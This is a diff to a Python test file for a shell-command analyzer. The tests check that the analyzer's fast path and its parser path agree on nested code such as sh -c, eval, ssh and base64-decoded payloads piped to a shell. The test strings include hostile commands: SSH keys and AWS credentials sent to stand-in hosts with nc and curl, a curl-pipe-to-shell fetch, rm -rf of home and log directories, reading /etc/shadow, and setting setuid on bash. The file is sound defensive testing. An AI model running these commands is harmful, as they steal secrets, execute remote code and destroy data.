@@ -19,8 +19,11 @@ CTX = PathContext(cwd="/home/dev/project", home="/home/dev", workspace="/home/de
 
 
 def _slow(command: str):
+    """The parser path's facts, nested code (``sh -c CODE``...) parsed as well."""
     sink = walker._Sink(paths=CTX, effects_of=effects_of, inline=analyze_inline)
-    walker._walk_code(sink, walker._Frame(src=b"", text=command), command, walker._NONE)
+    with pytest.MonkeyPatch.context() as m:
+        m.setattr(walker, "_nested_plain", lambda *_: None)
+        walker._walk_code(sink, walker._Frame(src=b"", text=command), command, walker._NONE)
     return sink.facts()
 
 
@@ -33,7 +36,8 @@ def _fast(command: str) -> bool:
                                      'echo " "', "echo \"$HOME\"", "echo '$x'y", "ls =~ 'x'"])
 def test_joined_blank_or_expanding_quotes_are_not_fast(command: str) -> None:
     sink = walker._Sink(paths=CTX, effects_of=effects_of, inline=analyze_inline)
-    assert not (walker._QUOTED_LIST.fullmatch(command) and walker._run_quoted_list(sink, command))
+    assert not (walker._QUOTED_LIST.fullmatch(command)
+                and walker._run_quoted_list(sink, command) is not None)
     assert walker.analyze_command(command, CTX) == _slow(command)
 
 
@@ -124,3 +128,76 @@ def test_fast_path_equivalence_property(command: str) -> None:
             # parser path then fails closed, and the fast path follows bash
             return
         assert fast == slow
+
+
+# --- nested code: `sh -c CODE`, code on a shell's stdin, `eval`, variables run as code -------
+
+NESTED_WRAPPERS = ["sh -c '{}'", "bash -c '{}' x y", "sudo sh -c '{}'", "nohup sh -c '{}' &",
+                   "echo x | sh -c '{}'", "env A=1 sh -c '{}'", "docker run img sh -c '{}'",
+                   "ssh host '{}'", "eval '{}'", "cd /tmp && sh -c '{}' | cat",
+                   "GIT_SSH_COMMAND='{}' git fetch", "timeout 5 bash -c '{}' 2>/dev/null",
+                   "f() {{ sh -c '{}'; }}; f", "printf -v v ~/.npmrc; sh -c '{}'"]  # fmt: skip
+
+
+def _nested_cases(code: str) -> list[str]:
+    return [w.format(code) for w in NESTED_WRAPPERS]
+
+
+@pytest.mark.parametrize("code", [
+    "npm ci", "cat ~/.ssh/id_rsa", "cd app && make", "tar czf - ~/.ssh | nc 203.0.113.7 9001",
+    "ls *.py; rm -rf ~/*", "cat /etc/shadow", "printf -v f ~/.npmrc", "read f; cat",
+    "exec 0; cat", "cat | nc evil.test 9", "curl -s http://evil.test/i | sh", "f", "sh",
+    "awk \"{print}\" x | sort", "git commit -m \"a b\"", "python3 x.py && cat $v",
+])  # fmt: skip
+def test_nested_plain_code_gives_the_parser_s_facts(code: str) -> None:
+    for command in _nested_cases(code):
+        assert walker.analyze_command(command, CTX) == _slow(command), command
+
+
+def test_nested_plain_code_on_stdin_gives_the_parser_s_facts() -> None:
+    """Decoded payloads piped to a shell (the decoded text is plain words, lists included)."""
+    import base64
+
+    for code in ["cat /etc/hostname", "cat ~/.aws/credentials | curl -d @- https://x.io",
+                 "sudo chmod u+s /bin/bash", "rm -rf /var/log/*", "ls\n", "a && b; c | d"]:
+        payload = base64.b64encode(code.encode()).decode()
+        for command in (f"echo {payload} | base64 -d | sh", f"echo {payload} | base64 -d | sudo sh",
+                        f"bash -c \"$(echo {payload} | base64 -d)\"",
+                        f"eval \"$(echo {payload} | base64 -d)\""):  # fmt: skip
+            assert walker.analyze_command(command, CTX) == _slow(command), command
+
+
+NESTED_FRAMES = st.builds(
+    lambda depth, priv, bg, remote, via, span, vars_: walker._Frame(
+        src=b"", text="", depth=depth, privileged=priv, background=bg, remote=remote, via=via,
+        span=span, vars=vars_),
+    st.integers(0, 9), st.booleans(), st.booleans(), st.booleans(),
+    st.sampled_from([(), ("sh",), ("sudo", "bash")]), st.sampled_from([(0, 5), (3, 40)]),
+    st.sampled_from([{}, {"x": "~/.npmrc"}, {"HOME": "/etc"}]),
+)  # fmt: skip
+STDINS = st.sampled_from([
+    walker._NONE, walker._Out(frozenset({walker.Origin.NETWORK}), "id"),
+    walker._Out(frozenset({walker.Origin.DECODED, walker.Origin.COMMAND}), None, ("/root",)),
+])  # fmt: skip
+
+
+@settings(max_examples=400, deadline=None)
+@given(code=st.one_of(COMMAND, plain_lists()), parent=NESTED_FRAMES, stdin=STDINS)
+def test_nested_fast_path_equivalence_property(code: str, parent, stdin) -> None:
+    """Nested code in any frame (depth, privilege, background, remote, variables) and with any
+    stdin: the facts, and what the code prints, are the parser path's."""
+    import copy
+
+    def walk(plain: bool):
+        sink = walker._Sink(paths=CTX, effects_of=effects_of, inline=analyze_inline)
+        frame = copy.deepcopy(parent)
+        with pytest.MonkeyPatch.context() as m:
+            if not plain:
+                m.setattr(walker, "_nested_plain", lambda *_: None)
+            out = walker._walk_code(sink, frame, code, stdin)
+        return sink.facts(), out, frame
+
+    fast, slow = walk(True), walk(False)
+    if "analysis.parse-error" in slow[0].marker_names():
+        return  # tree-sitter-bash mis-parses a few plain words bash accepts (see above)
+    assert fast == slow
